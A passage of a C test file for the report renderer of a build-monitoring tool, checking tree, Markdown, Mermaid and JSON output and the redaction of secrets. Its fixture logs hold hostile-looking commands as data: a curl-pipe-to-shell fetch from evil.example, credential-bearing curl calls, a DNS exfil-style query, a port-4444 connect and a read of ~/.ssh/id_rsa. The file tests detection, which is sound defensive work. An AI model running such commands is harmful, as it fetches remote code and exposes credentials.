// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * Reports rendered from saved event logs (docs/REPORTS.md): the text tree
 * (marks, colour, folding), the Markdown (verdict table, Mermaid lineage
 * and its escaping, network destinations, counts), the JSON summary, bad
 * logs, a report read while its log is written, and a log of 50,000
 * processes in bounded memory with exact counts.
 */
#include <errno.h>
#include <fcntl.h>
#include <regex.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <cmocka.h>
#include <json-c/json.h>
#include "events/event_json.h"
#include "events/event_lineview.h"
#include "events/netinfo.h"
#include "lib/json_out.h"
#include "lib/redact.h"
#include "report/report.h"
#include "report/report_internal.h"

/* A small run: make -> sh -c "curl … | sh" -> curl (killed by a rule). */
static const char small_log[] =
	"{\"seq\":1,\"type\":\"exec\",\"job_id\":1,\"pid\":100,\"tid\":100,\"start_ns\":1000,"
	"\"ppid\":99,\"parent_start_ns\":1,\"comm\":\"make\",\"filename\":\"/usr/bin/make\","
	"\"exe\":\"/usr/bin/make\",\"cwd\":\"/src\",\"argc\":2,\"argv\":[\"make\",\"-j2\"],"
	"\"argv_truncated\":false}\n"
	"{\"seq\":2,\"type\":\"fork\",\"job_id\":1,\"pid\":101,\"tid\":101,\"start_ns\":1010,"
	"\"parent_pid\":100,\"parent_tid\":100,\"parent_start_ns\":1000}\n"
	"{\"seq\":3,\"type\":\"exec\",\"job_id\":1,\"pid\":101,\"tid\":101,\"start_ns\":1010,"
	"\"comm\":\"sh\",\"filename\":\"/bin/sh\",\"exe\":\"/usr/bin/dash\",\"argc\":3,"
	"\"argv\":[\"sh\",\"-c\",\"curl -H 'Authorization: Bearer abc123' https://evil.example/x | sh\"]}\n"
	"\n"
	"{\"seq\":4,\"type\":\"fork\",\"job_id\":1,\"pid\":102,\"tid\":102,\"start_ns\":1020,"
	"\"parent_pid\":101,\"parent_tid\":101,\"parent_start_ns\":1010}\n"
	"{\"seq\":5,\"type\":\"exec\",\"job_id\":1,\"pid\":102,\"tid\":102,\"start_ns\":1020,"
	"\"comm\":\"curl\",\"filename\":\"/usr/bin/curl\",\"exe\":\"/usr/bin/curl\",\"argc\":4,"
	"\"argv\":[\"curl\",\"--token\",\"s3cret\",\"https://u:pw@evil.example/x\"]}\n"
	"{\"seq\":6,\"type\":\"verdict\",\"job_id\":1,\"rule\":\"curl-pipe-shell\","
	"\"severity\":\"high\",\"description\":\"d\",\"mode\":\"enforce\","
	"\"rule_action\":\"kill-process\",\"action\":\"kill-process\",\"blocked\":false,"
	"\"kernel_missed\":false,\"pid\":102,\"start_ns\":1020,\"filename\":\"/usr/bin/curl\","
	"\"argv\":[\"curl\",\"--token\",\"s3cret\",\"https://u:pw@evil.example/x\"],\"ancestry\":[]}\n"
	"{\"seq\":7,\"type\":\"connect\",\"job_id\":1,\"pid\":102,\"start_ns\":1020,"
	"\"daddr\":\"203.0.113.9\",\"dport\":443,\"dns_name\":\"evil.example\"}\n"
	"{\"seq\":8,\"type\":\"connect\",\"job_id\":1,\"pid\":102,\"start_ns\":1020,"
	"\"family\":\"ipv4\",\"address\":\"203.0.113.9\",\"port\":443,\"dns_name\":\"evil.example\"}\n"
	"{\"seq\":9,\"type\":\"connect\",\"job_id\":1,\"pid\":102,\"start_ns\":1020,"
	"\"address\":\"198.51.100.7\",\"port\":853,\"proto\":\"tcp\",\"dns_name\":null,"
	"\"dns_over\":\"tls\"}\n"
	"{\"seq\":10,\"type\":\"exit\",\"job_id\":1,\"pid\":102,\"tid\":102,\"start_ns\":1020,"
	"\"comm\":\"curl\",\"exit_code\":null,\"signal\":9,\"core_dumped\":false}\n"
	"{\"seq\":11,\"type\":\"fork\",\"job_id\":1,\"pid\":103,\"tid\":103,\"start_ns\":1030,"
	"\"parent_pid\":101,\"parent_tid\":101,\"parent_start_ns\":1010}\n"
	"{\"seq\":12,\"type\":\"exec\",\"job_id\":1,\"pid\":103,\"tid\":103,\"start_ns\":1030,"
	"\"comm\":\"odd\",\"filename\":\"/x/odd\",\"exe\":\"/x/odd\",\"argc\":2,"
	"\"argv\":[\"./odd\",\"a`b|c\\\"d#e<f>[g]{h}\"]}\n"
	"{\"seq\":13,\"type\":\"verdict\",\"job_id\":1,\"rule\":\"odd|rule`x\","
	"\"severity\":\"low\",\"mode\":\"enforce\",\"rule_action\":\"alert\",\"action\":\"alert\","
	"\"blocked\":false,\"pid\":103,\"start_ns\":1030,"
	"\"argv\":[\"./odd\",\"a`b|c\\\"d#e<f>[g]{h}\"]}\n"
	"{\"seq\":14,\"type\":\"exit\",\"job_id\":1,\"pid\":103,\"tid\":103,\"start_ns\":1030,"
	"\"exit_code\":0,\"signal\":null}\n"
	"{\"seq\":15,\"type\":\"exec_failed\",\"job_id\":1,\"pid\":101,\"tid\":101,\"start_ns\":1010,"
	"\"error\":-2,\"errno\":\"ENOENT\",\"filename\":\"/nope\"}\n"
	"{\"seq\":16,\"type\":\"some_future_type\",\"job_id\":1}\n"
	"{\"seq\":17,\"type\":\"exit\",\"job_id\":1,\"pid\":101,\"tid\":101,\"start_ns\":1010,"
	"\"exit_code\":0,\"signal\":null}\n"
	"{\"seq\":18,\"type\":\"lost\",\"job_id\":1,\"count\":3,\"total\":3}\n"
	"{\"seq\":19,\"type\":\"exit\",\"job_id\":1,\"pid\":100,\"tid\":100,\"start_ns\":1000,"
	"\"exit_code\":2,\"signal\":null}\n"
	"{\"seq\":20,\"type\":\"summary\",\"job_id\":1,\"command\":[\"make\",\"-j2\"],"
	"\"exit_status\":124,\"build_exit_code\":null,\"build_signal\":9,\"processes\":4,"
	"\"lost\":3,\"duration_ns\":1500000000,\"policy\":\"ci.yml\",\"mode\":\"enforce\","
	"\"verdicts\":2,\"job_killed\":true}\n";

struct out_files {
	char dir[64];
	char events[96];
	char md[96];
	char json[96];
};

static void write_text(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");

	assert_non_null(f);
	assert_int_equal(fputs(text, f) >= 0, 1);
	assert_int_equal(fclose(f), 0);
}

static char *read_text(const char *path)
{
	char *buf = NULL;
	size_t cap = 0, len;
	FILE *f = fopen(path, "r");

	assert_non_null(f);
	len = getdelim(&buf, &cap, '\0', f);
	assert_true(len != (size_t)-1);
	fclose(f);
	return buf;
}

static int setup_files(void **state)
{
	struct out_files *o = calloc(1, sizeof(*o));

	if (!o)
		return -1;
	strcpy(o->dir, "/tmp/bw-report-XXXXXX");
	if (!mkdtemp(o->dir))
		return -1;
	snprintf(o->events, sizeof(o->events), "%s/events.jsonl", o->dir);
	snprintf(o->md, sizeof(o->md), "%s/report.md", o->dir);
	snprintf(o->json, sizeof(o->json), "%s/report.json", o->dir);
	*state = o;
	return 0;
}

static int teardown_files(void **state)
{
	struct out_files *o = *state;

	unlink(o->events);
	unlink(o->md);
	unlink(o->json);
	rmdir(o->dir);
	free(o);
	return 0;
}

/* Renders events to text (returned) and the md/json files. */
static char *render(struct out_files *o, bool color, bool append)
{
	struct report_opts ro = {
		.color = color, .markdown_path = o->md, .append = append, .json_path = o->json,
	};
	char *text = NULL;
	size_t len = 0;

	ro.tree_out = open_memstream(&text, &len);
	assert_non_null(ro.tree_out);
	assert_int_equal(report_render(o->events, &ro), 0);
	fclose(ro.tree_out);
	return text;
}

static void assert_no_secrets(const char *s)
{
	assert_null(strstr(s, "s3cret"));
	assert_null(strstr(s, "abc123"));
	assert_null(strstr(s, ":pw@"));
}

static void test_text_tree(void **state)
{
	struct out_files *o = *state;
	char *text;

	write_text(o->events, small_log);
	text = render(o, false, false);
	assert_non_null(strstr(text, "buildwarden: process tree\n100 make -j2  [exit 2]\n"));
	assert_non_null(strstr(text, "|- ! 102 curl --token *** https://u:***@evil.example/x  "
				     "[killed by policy: rule 'curl-pipe-shell']  <- rule "
				     "'curl-pipe-shell'\n"));
	assert_non_null(strstr(text, "Authorization: Bearer ***' https://evil.example/x | sh"));
	assert_non_null(strstr(text, "! 103 ./odd"));
	assert_non_null(strstr(text, "<- rule 'odd|rule`x'"));
	assert_non_null(strstr(text, "buildwarden: 4 processes, 4 execs, 1 failed execs, "
				     "0 still running; lost events: 3; job terminated by policy, "
				     "exit status 124\n"));
	assert_non_null(strstr(text, "rule 'curl-pipe-shell' (high, kill-process): 1 hit, "
				     "0 blocked, 1 killed"));
	assert_non_null(strstr(text, "WARNING: the trace is incomplete: 3 lost"));
	assert_null(strstr(text, "\033["));
	assert_no_secrets(text);
	free(text);

	/* colour: the flagged line red, its ancestors yellow */
	text = render(o, true, false);
	assert_non_null(strstr(text, "\033[1;31m! 102 curl"));
	assert_non_null(strstr(text, "\033[33m100 make -j2\033[0m"));
	assert_non_null(strstr(text, "\033[31m<- rule 'curl-pipe-shell'\033[0m"));
	free(text);

	/* run --no-tree: the summary lines only */
	{
		struct report_opts ro = { .no_tree = true };
		size_t len = 0;

		ro.tree_out = open_memstream(&text, &len);
		assert_int_equal(report_render(o->events, &ro), 0);
		fclose(ro.tree_out);
		assert_true(!strncmp(text, "buildwarden: 4 processes,", 25));
		assert_null(strstr(text, "make -j2"));
		free(text);
	}
}

/* Every Mermaid node line is n<i>["label"] with nothing that ends the label. */
static void check_mermaid(const char *md, int want_nodes)
{
	const char *start = strstr(md, "```mermaid\ngraph TD\n"), *end, *line;
	regex_t node_re, edge_re, other_re;
	char buf[512];
	int nodes = 0;
	size_t len;

	assert_non_null(start);
	start += strlen("```mermaid\ngraph TD\n");
	end = strstr(start, "```\n");
	assert_non_null(end);
	assert_int_equal(regcomp(&node_re, "^  n[0-9]+\\[\"[^\"`\\[\\]<>|]*(<br/>! [^\"`\\[\\]<>|]*)?\"\\]$",
				 REG_EXTENDED | REG_NOSUB), 0);
	assert_int_equal(regcomp(&edge_re, "^  n[0-9]+ --> n[0-9]+$", REG_EXTENDED | REG_NOSUB), 0);
	assert_int_equal(regcomp(&other_re, "^  (classDef flagged .*|class n[0-9]+ flagged)$",
				 REG_EXTENDED | REG_NOSUB), 0);
	for (line = start; line < end; line += len + 1) {
		len = strcspn(line, "\n");
		assert_true(len < sizeof(buf));
		memcpy(buf, line, len);
		buf[len] = '\0';
		if (!regexec(&node_re, buf, 0, NULL, 0)) {
			nodes++;
			continue;
		}
		if (regexec(&edge_re, buf, 0, NULL, 0) && regexec(&other_re, buf, 0, NULL, 0)) {
			print_error("bad mermaid line: '%s'\n", buf);
			fail();
		}
	}
	regfree(&node_re);
	regfree(&edge_re);
	regfree(&other_re);
	assert_int_equal(nodes, want_nodes);
}

static void test_markdown(void **state)
{
	struct out_files *o = *state;
	char *text, *md;

	write_text(o->events, small_log);
	text = render(o, false, false);
	free(text);
	md = read_text(o->md);
	assert_no_secrets(md);
	assert_true(!strncmp(md, "## buildwarden: `make -j2` — job terminated by policy (exit 124)\n",
			     strlen("## buildwarden: `make -j2` — job terminated by policy (exit 124)\n")));
	assert_non_null(strstr(md, "**4 processes**, 4 execs, 1 failed execs · **2 verdicts** "
				   "(0 blocked, 1 killed) · 3 lost events · policy `ci.yml` (enforce) · "
				   "1.50 s\n"));
	assert_non_null(strstr(md, "> **Warning:** the trace is incomplete: 3 events lost"));
	assert_non_null(strstr(md, "| Rule | Severity | Action | Blocked | PID | Command |\n"));
	assert_non_null(strstr(md, "| `curl-pipe-shell` | high | kill-process | no | 102 | "
				   "`curl --token *** https://u:***@evil.example/x` |\n"));
	/* a backtick and a pipe in a cell: longer fence, escaped pipe */
	assert_non_null(strstr(md, "| ``odd\\|rule`x`` | low | alert | no | 103 | "
				   "``./odd a`b\\|c\"d#e<f>[g]{h}`` |\n"));
	assert_non_null(strstr(md, "| `curl-pipe-shell` | high | kill-process | 1 | 0 | 1 |\n"));
	/* the lineage: make -> sh -> curl and sh -> odd, both flagged */
	check_mermaid(md, 4);
	assert_non_null(strstr(md, "  n0[\"100 make -j2\"]\n"));
	assert_non_null(strstr(md, "  n2[\"102 curl --token *** https://u:***@evil.example/x<br/>! "
				   "curl-pipe-shell\"]\n"));
	assert_non_null(strstr(md, "  n3[\"103 ./odd a#96;b#124;c#quot;d#35;e#lt;f#gt;#91;g#93;#123;h#125;"
				   "<br/>! odd#124;rule#96;x\"]\n"));
	assert_non_null(strstr(md, "  n0 --> n1\n  n1 --> n2\n  n1 --> n3\n"));
	assert_non_null(strstr(md, "  class n2 flagged\n  class n3 flagged\n"));
	/* the agent's field names (address, port) and the older daddr/dport; DNS past port 53 first */
	assert_non_null(strstr(md, "### Network destinations\n\n| Destination | Port | Protocol | "
				   "Name | Connections | Processes |\n|---|---:|---|---|---:|---|\n"
				   "| `198.51.100.7` | 853 | tcp | DNS over TLS | 1 | `curl 102` |\n"
				   "| `203.0.113.9` | 443 |  | `evil.example` | 2 | `curl 102` |\n"));
	assert_non_null(strstr(md, "| Processes | 4 |\n| Execs | 4 |\n| Failed execs | 1 |\n"
				   "| PATH lookups (not failures) | 0 |\n"
				   "| Forks | 3 |\n| Exits | 4 |\n| Verdicts | 2 |\n"));
	assert_non_null(strstr(md, "| Lost events | 3 |\n"));
	free(md);

	/* append: as for $GITHUB_STEP_SUMMARY, the second report follows the first */
	text = render(o, false, true);
	free(text);
	md = read_text(o->md);
	assert_non_null(strstr(strstr(md, "## buildwarden: ") + 1, "## buildwarden: "));
	free(md);
}

static struct json_object *get(struct json_object *o, const char *path)
{
	char key[64];
	const char *dot;
	struct json_object *v = o;

	while (*path) {
		dot = strchr(path, '.');
		snprintf(key, sizeof(key), "%.*s", dot ? (int)(dot - path) : (int)strlen(path), path);
		if (!json_object_object_get_ex(v, key, &v)) {
			print_error("no %s\n", key);
			fail();
		}
		path = dot ? dot + 1 : path + strlen(path);
	}
	return v;
}

static void test_json_summary(void **state)
{
	struct out_files *o = *state;
	struct json_object *j, *v;
	char *text, *js;

	write_text(o->events, small_log);
	text = render(o, false, false);
	free(text);
	js = read_text(o->json);
	assert_no_secrets(js);
	j = json_tokener_parse(js);
	assert_non_null(j);
	assert_string_equal(json_object_get_string(get(j, "status")), "job terminated by policy");
	assert_false(json_object_get_boolean(get(j, "complete")));
	assert_int_equal(json_object_get_int(get(j, "exit_status")), 124);
	assert_int_equal(json_object_get_int(get(j, "lost")), 3);
	assert_int_equal(json_object_get_int(get(j, "counts.processes")), 4);
	assert_int_equal(json_object_get_int(get(j, "counts.execs")), 4);
	assert_int_equal(json_object_get_int(get(j, "counts.exec_failed")), 1);
	assert_int_equal(json_object_get_int(get(j, "counts.verdicts")), 2);
	assert_int_equal(json_object_get_int(get(j, "counts.killed")), 1);
	assert_int_equal(json_object_get_int(get(j, "counts.connects")), 3);
	assert_int_equal(json_object_get_int(get(j, "counts.missing_records")), 0);
	v = get(j, "rules");
	assert_int_equal(json_object_array_length(v), 2);
	assert_string_equal(json_object_get_string(get(json_object_array_get_idx(v, 0), "rule")),
			    "curl-pipe-shell");
	assert_int_equal(json_object_get_int(get(json_object_array_get_idx(v, 0), "hits")), 1);
	v = get(j, "verdicts");
	assert_int_equal(json_object_array_length(v), 2);
	assert_string_equal(json_object_get_string(get(json_object_array_get_idx(v, 0), "command")),
			    "curl --token *** https://u:***@evil.example/x");
	assert_int_equal(json_object_get_int(get(json_object_array_get_idx(v, 0), "seq")), 6);
	v = get(j, "network");
	assert_int_equal(json_object_array_length(v), 2);
	assert_int_equal(json_object_get_int(get(json_object_array_get_idx(v, 1), "count")), 2);
	assert_string_equal(json_object_get_string(get(json_object_array_get_idx(v, 1), "dns_name")),
			    "evil.example");
	assert_null(get(json_object_array_get_idx(v, 1), "dns_over"));
	assert_string_equal(json_object_get_string(get(json_object_array_get_idx(v, 0), "dns_over")),
			    "tls");
	v = get(json_object_array_get_idx(v, 1), "processes");
	assert_int_equal(json_object_array_length(v), 1);
	assert_int_equal(json_object_get_int(get(json_object_array_get_idx(v, 0), "pid")), 102);
	assert_string_equal(json_object_get_string(get(json_object_array_get_idx(v, 0), "comm")),
			    "curl");
	json_object_put(j);
	free(js);
}

/* Tracked files changed: once per path with its first writer, in all three formats. */
static const char tracked_log[] =
	"{\"seq\":1,\"type\":\"exec\",\"job_id\":1,\"pid\":10,\"start_ns\":100,\"ppid\":1,"
	"\"parent_start_ns\":1,\"comm\":\"sed\",\"filename\":\"/bin/sed\",\"exe\":\"/bin/sed\","
	"\"argc\":1,\"argv\":[\"sed\"]}\n"
	"{\"seq\":2,\"type\":\"file\",\"job_id\":1,\"pid\":10,\"start_ns\":100,\"op\":\"open-write\","
	"\"path\":\"/w/src/a.c\",\"path2\":null,\"tracked\":true}\n"
	"{\"seq\":3,\"type\":\"file\",\"job_id\":1,\"pid\":10,\"start_ns\":100,\"op\":\"rename\","
	"\"path\":\"/w/sedX\",\"path2\":\"/w/README\",\"tracked\":true}\n"
	"{\"seq\":4,\"type\":\"file\",\"job_id\":1,\"pid\":10,\"start_ns\":100,\"op\":\"open-write\","
	"\"path\":\"/w/src/a.c\",\"path2\":null,\"tracked\":true}\n"
	"{\"seq\":5,\"type\":\"file\",\"job_id\":1,\"pid\":10,\"start_ns\":100,\"op\":\"open-write\","
	"\"path\":\"/w/out.o\",\"path2\":null}\n"
	"{\"seq\":6,\"type\":\"summary\",\"job_id\":1,\"command\":[\"sed\"],\"exit_status\":0}\n";

static void test_tracked_changed(void **state)
{
	struct out_files *o = *state;
	struct json_object *j, *v, *e;
	char *text, *md, *js;

	write_text(o->events, tracked_log);
	text = render(o, false, false);
	assert_non_null(strstr(text, "tracked file changed: /w/src/a.c (open-write by pid 10 sed)"));
	assert_non_null(strstr(text, "tracked file changed: /w/sedX -> /w/README (rename"));
	assert_null(strstr(text, "tracked file changed: /w/out.o"));
	assert_non_null(strstr(text, "written in the checkout: /w/out.o (1 write; by sed 10)"));
	md = read_text(o->md);
	assert_non_null(strstr(md, "### Tracked files changed"));
	assert_non_null(strstr(md, "| `/w/src/a.c` | open-write | `sed` (pid 10) | 2 |"));
	js = read_text(o->json);
	j = json_tokener_parse(js);
	assert_non_null(j);
	v = get(j, "tracked_changed");
	assert_int_equal(json_object_array_length(v), 2);
	e = json_object_array_get_idx(v, 0);
	assert_string_equal(json_object_get_string(get(e, "path")), "/w/src/a.c");
	assert_int_equal(json_object_get_int(get(e, "count")), 2);
	assert_string_equal(json_object_get_string(get(e, "comm")), "sed");
	assert_string_equal(json_object_get_string(get(json_object_array_get_idx(v, 1), "op")),
			    "rename");
	json_object_put(j);
	free(js);
	free(md);
	free(text);
}

static const char traced_log[] =
	"{\"seq\":1,\"type\":\"exec\",\"job_id\":1,\"pid\":10,\"start_ns\":100,\"ppid\":1,"
	"\"parent_start_ns\":1,\"comm\":\"make\",\"filename\":\"/usr/bin/make\","
	"\"exe\":\"/usr/bin/make\",\"argc\":1,\"argv\":[\"make\"]}\n"
	"{\"seq\":2,\"type\":\"summary\",\"job_id\":1,\"command\":[\"make\"],\"exit_status\":0,"
	"\"trace\":{\"trace_id\":\"4bf92f3577b34da6a3ce929d0e0e4736\",\"joined\":true,\"spans\":3,"
	"\"still_running\":0,\"span_events\":2,\"span_events_dropped\":1,\"spans_unencoded\":0,"
	"\"sender_final\":true,\"sent\":2,\"failed\":0,\"dropped\":1}}\n";

/* The trace id a person jumps to, in every form of the report (docs/TRACES.md). */
static void test_trace_id(void **state)
{
	struct out_files *o = *state;
	struct json_object *j;
	char *text, *md, *js;

	write_text(o->events, traced_log);
	text = render(o, false, false);
	assert_non_null(strstr(text, "buildwarden: trace 4bf92f3577b34da6a3ce929d0e0e4736 (joined "
				     "from TRACEPARENT): 3 spans, 2 sent, 0 failed, 1 dropped; 1 span "
				     "events dropped"));
	md = read_text(o->md);
	assert_non_null(strstr(md, "| Trace | `4bf92f3577b34da6a3ce929d0e0e4736` (3 spans, 2 sent) |"));
	js = read_text(o->json);
	j = json_tokener_parse(js);
	assert_non_null(j);
	assert_string_equal(json_object_get_string(get(j, "counts.trace_id")),
			    "4bf92f3577b34da6a3ce929d0e0e4736");
	assert_int_equal(json_object_get_int(get(j, "counts.spans_dropped")), 1);
	json_object_put(j);
	free(js);
	free(md);
	free(text);
	/* no trace exported: no line, no field */
	write_text(o->events, tracked_log);
	text = render(o, false, false);
	assert_null(strstr(text, "buildwarden: trace "));
	free(text);
}

static void test_no_redact(void **state)
{
	struct out_files *o = *state;
	char *text, *md;

	write_text(o->events, small_log);
	redact_set_enabled(false);
	text = render(o, false, false);
	redact_set_enabled(true);
	md = read_text(o->md);
	assert_non_null(strstr(text, "curl --token s3cret https://u:pw@evil.example/x"));
	assert_non_null(strstr(md, "curl --token s3cret https://u:pw@evil.example/x"));
	free(text);
	free(md);
}

/* No summary record, no verdicts, no network: said so, not left blank. */
static void test_incomplete_log(void **state)
{
	struct out_files *o = *state;
	struct json_object *j;
	char *text, *md, *js;

	write_text(o->events,
		   "{\"seq\":1,\"type\":\"exec\",\"pid\":5,\"start_ns\":50,\"argv\":[\"true\"]}\n"
		   "{\"seq\":3,\"type\":\"exit\",\"pid\":5,\"start_ns\":50,\"exit_code\":0}\n");
	text = render(o, false, false);
	assert_non_null(strstr(text, "5 true  [exit 0]"));
	assert_non_null(strstr(text, "no summary record: the run did not finish"));
	assert_non_null(strstr(text, "1 records missing from the log"));
	md = read_text(o->md);
	assert_non_null(strstr(md, "## buildwarden: `true` — incomplete (the log has no summary "
				   "record): no verdicts\n"));
	assert_non_null(strstr(md, "No policy rule matched."));
	assert_non_null(strstr(md, "### Network destinations\n\nNone recorded.\n"));
	assert_null(strstr(md, "mermaid"));
	js = read_text(o->json);
	j = json_tokener_parse(js);
	assert_non_null(j);
	assert_string_equal(json_object_get_string(get(j, "status")), "incomplete");
	assert_null(get(j, "exit_status"));
	assert_int_equal(json_object_get_int(get(j, "counts.missing_records")), 1);
	json_object_put(j);
	free(text);
	free(md);
	free(js);
}

/* Feeds text to a fresh report, line by line, and finishes it. */
static void feed_all(struct report *r, const char *text)
{
	const char *why = NULL, *nl;

	assert_int_equal(report_init(r), 0);
	for (; *text; text = nl + 1) {
		nl = strchr(text, '\n');
		assert_non_null(nl);
		assert_int_equal(report_feed(r, text, (size_t)(nl - text + 1), &why), 0);
	}
	assert_int_equal(report_finish(r), 0);
}

#define EXEC_FAILED(seq, pid, file, err) \
	"{\"seq\":" #seq ",\"type\":\"exec_failed\",\"pid\":" #pid ",\"start_ns\":" #pid "0," \
	"\"error\":-2,\"errno\":\"" err "\",\"filename\":\"" file "\"}\n"
#define EXEC(seq, pid, file) \
	"{\"seq\":" #seq ",\"type\":\"exec\",\"pid\":" #pid ",\"start_ns\":" #pid "0,\"comm\":\"x\"," \
	"\"filename\":\"" file "\",\"argv\":[\"" file "\"]}\n"
#define EXIT(seq, pid) \
	"{\"seq\":" #seq ",\"type\":\"exit\",\"pid\":" #pid ",\"start_ns\":" #pid "0,\"exit_code\":0}\n"

/*
 * PATH lookups: env trying three directories before /usr/bin/bash is no
 * failure; a search that never finds its program is one; other errors,
 * and a miss followed by another program, count as they are.
 */
static void test_path_lookups(void **state)
{
	static const char log[] =
		EXEC(1, 1, "/usr/bin/env")
		EXEC_FAILED(2, 1, "/root/.cargo/bin/bash", "ENOENT")
		EXEC_FAILED(3, 1, "/usr/local/bin/bash", "EACCES")
		EXEC_FAILED(4, 1, "/home/u/bin/bash", "ENOTDIR")
		EXEC(5, 1, "/usr/bin/bash")
		/* 2: not found anywhere, then gives up (exit) */
		EXEC_FAILED(6, 2, "/usr/local/bin/nosuch", "ENOENT")
		EXEC_FAILED(7, 2, "/usr/bin/nosuch", "ENOENT")
		EXIT(8, 2)
		/* 3: a genuine error, a lone missing file, then a miss and another program */
		EXEC_FAILED(9, 3, "/tmp/tool", "ENOEXEC")
		EXEC_FAILED(10, 3, "/opt/a/cc", "ENOENT")
		EXEC(11, 3, "/usr/bin/gcc")
		/* 4: a deny rule's EPERM; 5: a search the log ends in the middle of */
		EXEC_FAILED(12, 4, "/usr/bin/nc", "EPERM")
		EXEC_FAILED(13, 5, "/a/make", "ENOENT")
		EXEC_FAILED(14, 5, "/b/make", "ENOENT");
	struct report r;

	(void)state;
	feed_all(&r, log);
	/* 2's search, 3's ENOEXEC, 3's cc, 4's EPERM, 5's unfinished search */
	assert_int_equal(report_exec_failed(&r), 5);
	/* 1's three, one of 2's two, one of 5's two */
	assert_int_equal(report_exec_path_misses(&r), 5);
	/* every exec_failed record is one or the other */
	assert_int_equal(report_exec_failed(&r) + report_exec_path_misses(&r), 10);
	report_free(&r);
}

/* What a reviewer asks, in the JSON summary, Markdown and text. */
static const char review_log[] =
	"{\"seq\":1,\"type\":\"exec\",\"pid\":10,\"start_ns\":100,\"comm\":\"make\","
	"\"filename\":\"/usr/bin/make\",\"cwd\":\"/w/sub\",\"argv\":[\"make\",\"all\"]}\n"
	"{\"seq\":2,\"type\":\"dns\",\"pid\":11,\"start_ns\":110,\"comm\":\"npm\",\"direction\":\"query\","
	"\"qname\":\"registry.npmjs.org\",\"qtype\":\"A\",\"resolver\":\"configured\"}\n"
	"{\"seq\":3,\"type\":\"dns\",\"pid\":11,\"start_ns\":110,\"comm\":\"npm\",\"direction\":\"answer\","
	"\"qname\":\"registry.npmjs.org\",\"qtype\":\"A\"}\n"
	"{\"seq\":4,\"type\":\"dns\",\"pid\":12,\"start_ns\":120,\"comm\":\"node\",\"direction\":\"query\","
	"\"qname\":\"registry.npmjs.org\",\"qtype\":\"AAAA\",\"resolver\":\"configured\"}\n"
	"{\"seq\":5,\"type\":\"dns\",\"pid\":13,\"start_ns\":130,\"comm\":\"curl\",\"direction\":\"query\","
	"\"qname\":\"x1.exfil.example\",\"qtype\":\"TXT\",\"resolver\":\"other\"}\n"
	"{\"seq\":6,\"type\":\"verdict\",\"rule\":\"dns-odd\",\"severity\":\"high\",\"mode\":\"audit\","
	"\"rule_action\":\"alert\",\"action\":\"alert\",\"pid\":13,\"start_ns\":130,\"on\":\"dns\","
	"\"argv\":[\"curl\"]}\n"
	"{\"seq\":7,\"type\":\"dns\",\"pid\":14,\"start_ns\":140,\"comm\":\"git\",\"direction\":\"query\","
	"\"qname\":\"dns.google\",\"qtype\":\"A\",\"resolver\":\"configured\"}\n"
	"{\"seq\":8,\"type\":\"connect\",\"pid\":14,\"start_ns\":140,\"comm\":\"git\","
	"\"address\":\"8.8.8.8\",\"port\":443,\"proto\":\"tcp\",\"dns_name\":\"dns.google\","
	"\"dns_over\":\"https\"}\n"
	"{\"seq\":9,\"type\":\"connect\",\"pid\":11,\"start_ns\":110,\"comm\":\"npm\","
	"\"address\":\"104.16.0.1\",\"port\":443,\"proto\":\"tcp\",\"dns_name\":\"registry.npmjs.org\"}\n"
	"{\"seq\":10,\"type\":\"connect\",\"pid\":12,\"start_ns\":120,\"comm\":\"node\","
	"\"address\":\"104.16.0.1\",\"port\":443,\"proto\":\"tcp\",\"dns_name\":\"registry.npmjs.org\"}\n"
	"{\"seq\":11,\"type\":\"connect\",\"pid\":13,\"start_ns\":130,\"comm\":\"curl\","
	"\"address\":\"203.0.113.5\",\"port\":4444,\"proto\":\"tcp\",\"dns_name\":null}\n"
	"{\"seq\":12,\"type\":\"file\",\"pid\":15,\"start_ns\":150,\"comm\":\"cat\",\"op\":\"open-read\","
	"\"path\":\"/home/u/.ssh/id_rsa\",\"result\":0}\n"
	"{\"seq\":13,\"type\":\"verdict\",\"rule\":\"credential-file-access\",\"severity\":\"high\","
	"\"mode\":\"audit\",\"rule_action\":\"alert\",\"action\":\"alert\",\"pid\":15,"
	"\"start_ns\":150,\"on\":\"file\",\"argv\":[\"cat\"]}\n"
	"{\"seq\":14,\"type\":\"file\",\"pid\":11,\"start_ns\":110,\"comm\":\"npm\",\"op\":\"open-read\","
	"\"path\":\"/home/u/.npmrc\",\"result\":0}\n"
	"{\"seq\":15,\"type\":\"file\",\"pid\":12,\"start_ns\":120,\"comm\":\"node\",\"op\":\"open-read\","
	"\"path\":\"/home/u/.npmrc\",\"result\":-13,\"errno\":\"EACCES\"}\n"
	"{\"seq\":16,\"type\":\"file\",\"pid\":12,\"start_ns\":120,\"comm\":\"node\",\"op\":\"open-read\","
	"\"path\":\"/proc/12/maps\",\"target_pid\":12,\"target_in_job\":true,\"result\":0}\n"
	"{\"seq\":17,\"type\":\"file\",\"pid\":12,\"start_ns\":120,\"comm\":\"node\",\"op\":\"open-read\","
	"\"path\":\"/proc/self/environ\",\"result\":0}\n"
	"{\"seq\":18,\"type\":\"file\",\"pid\":16,\"start_ns\":160,\"comm\":\"cc\",\"op\":\"open-write\","
	"\"path\":\"/w/out/a.o\",\"result\":0}\n"
	"{\"seq\":19,\"type\":\"file\",\"pid\":16,\"start_ns\":160,\"comm\":\"cc\",\"op\":\"open-write\","
	"\"path\":\"/w/out/a.o\",\"result\":0}\n"
	"{\"seq\":20,\"type\":\"file\",\"pid\":13,\"start_ns\":130,\"comm\":\"curl\",\"op\":\"open-write\","
	"\"path\":\"/tmp/payload\",\"result\":0}\n"
	"{\"seq\":21,\"type\":\"file\",\"pid\":16,\"start_ns\":160,\"comm\":\"cc\",\"op\":\"rename\","
	"\"path\":\"/w/out/b.tmp\",\"path2\":\"/w/out/b.o\",\"result\":0}\n"
	"{\"seq\":22,\"type\":\"file\",\"pid\":16,\"start_ns\":160,\"comm\":\"cc\",\"op\":\"open-write\","
	"\"path\":\"/w/out/c.o\",\"result\":-13}\n"
	"{\"seq\":23,\"type\":\"privilege\",\"pid\":17,\"start_ns\":170,\"comm\":\"sudo\",\"op\":\"setuid\","
	"\"args\":[0,0,0]}\n"
	"{\"seq\":24,\"type\":\"privilege\",\"pid\":18,\"start_ns\":180,\"comm\":\"insmod\","
	"\"op\":\"module\",\"args\":[3,0,0]}\n"
